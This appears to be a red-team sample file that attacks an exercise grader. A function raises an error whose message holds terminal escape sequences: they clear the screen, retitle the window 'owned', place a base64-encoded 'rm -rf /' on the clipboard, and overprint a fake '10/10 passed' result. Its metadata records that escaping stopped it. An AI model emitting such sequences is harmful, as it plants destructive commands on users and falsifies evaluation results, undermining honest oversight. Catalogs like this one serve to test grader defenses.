"""Raise with escape sequences that clear the screen, set the title, fill the clipboard.

Seen: own idea; terminal emulators have had many such holes.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "escaping"
# ///


def final_states(h_n, num_layers):
    raise ValueError("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\x9b31m\r10/10\b\b\b passed\x00\x7f")
